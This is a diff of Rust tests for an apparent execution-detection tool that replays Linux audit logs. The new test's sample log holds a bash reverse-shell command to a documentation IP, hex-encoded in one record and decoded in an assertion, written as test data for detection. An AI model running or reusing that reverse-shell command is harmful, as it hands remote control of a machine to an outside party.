@@ -174,8 +174,8 @@ fn missing_file_is_exit_2_and_says_which() {
 fn unknown_format_names_the_known_ones() {
     let dir = TempDir::new("format");
     let file = dir.write(
-        "audit.log",
-        "\ntype=EXECVE msg=audit(1700000000.123:42): argc=1 a0=\"ls\"\n",
+        "syslog",
+        "\nNov 28 06:43:33 web1 sshd[812]: Accepted publickey for root\n",
     );
     let r = run(&["replay".as_ref(), file.as_os_str()]);
     assert_eq!(r.code, Some(2), "{}", r.stderr);
@@ -185,6 +185,7 @@ fn unknown_format_names_the_known_ones() {
         r.stderr
     );
     assert!(r.stderr.contains("known formats: ecs"), "{}", r.stderr);
+    assert!(r.stderr.contains("audit (Linux audit"), "{}", r.stderr);
     assert!(
         r.stderr.contains(&file.display().to_string()),
         "{}",
@@ -284,5 +285,57 @@ fn version_flag() {
     assert_eq!(
         r.stdout.trim(),
         format!("execsentry {}", env!("CARGO_PKG_VERSION"))
+    );
+}
+
+/// A raw audit.log (no EOE, as auditd writes it): a shell, then a reverse shell it starts with a
+/// hex-encoded argument, then an excluded loopback one. Exactly one alert, with the parent's
+/// facts taken from the earlier exec in the same file.
+#[cfg(target_os = "linux")]
+#[test]
+fn audit_log_replays_through_the_seed_rule_with_parent_facts() {
+    let dir = TempDir::new("audit");
+    let log = r#"type=SYSCALL msg=audit(1795848213.100:500): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=100 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="execsentry"
+type=EXECVE msg=audit(1795848213.100:500): argc=2 a0="bash" a1="-l"
+type=CWD msg=audit(1795848213.100:500): cwd="/home/u"
+type=PATH msg=audit(1795848213.100:500): item=0 name="/usr/bin/bash" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
+type=PROCTITLE msg=audit(1795848213.100:500): proctitle=62617368002D6C
+type=SYSCALL msg=audit(1795848213.200:501): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=100 pid=101 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="execsentry"
+type=EXECVE msg=audit(1795848213.200:501): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3139322E302E322E312F3434343420303E2631
+type=CWD msg=audit(1795848213.200:501): cwd="/home/u"
+type=PATH msg=audit(1795848213.200:501): item=0 name="/bin/bash" inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
+type=PROCTITLE msg=audit(1795848213.200:501): proctitle=62617368002D63
+type=SYSCALL msg=audit(1795848213.300:502): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=100 pid=102 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="execsentry"
+type=EXECVE msg=audit(1795848213.300:502): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F3132372E302E302E312F3434343420303E2631
+type=PROCTITLE msg=audit(1795848213.300:502): proctitle=62617368002D63
+this line is not an audit record
+"#;
+    let file = dir.write("audit.log", log);
+    let r = run(&["replay".as_ref(), file.as_os_str()]);
+    assert_eq!(r.code, Some(0), "{}", r.stderr);
+    let alerts: Vec<serde_json::Value> = r
+        .stdout
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("alert is JSON"))
+        .collect();
+    assert_eq!(alerts.len(), 1, "{}", r.stdout);
+    let a = &alerts[0];
+    assert_eq!(a["rule"]["id"], "a1a0375f-22c2-48c0-81a4-7c2d11cc6856");
+    assert_eq!(a["process"]["name"], "bash");
+    assert_eq!(a["process"]["pid"], 101);
+    assert_eq!(
+        a["process"]["args"],
+        serde_json::json!(["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"])
+    );
+    assert_eq!(a["process"]["parent"]["name"], "bash");
+    assert_eq!(a["process"]["parent"]["command_line"], "bash -l");
+    assert_eq!(a["process"]["user"]["id"], "1000");
+    assert_eq!(a["event"]["sequence"], 501);
+    assert_eq!(a["@timestamp"], "2026-11-28T06:43:33.200Z");
+    assert!(r.stderr.contains("events:      3"), "{}", r.stderr);
+    assert!(
+        r.stderr.contains("audit.log:14:1: expected `type=NAME`"),
+        "the bad line is named: {}",
+        r.stderr
     );
 }
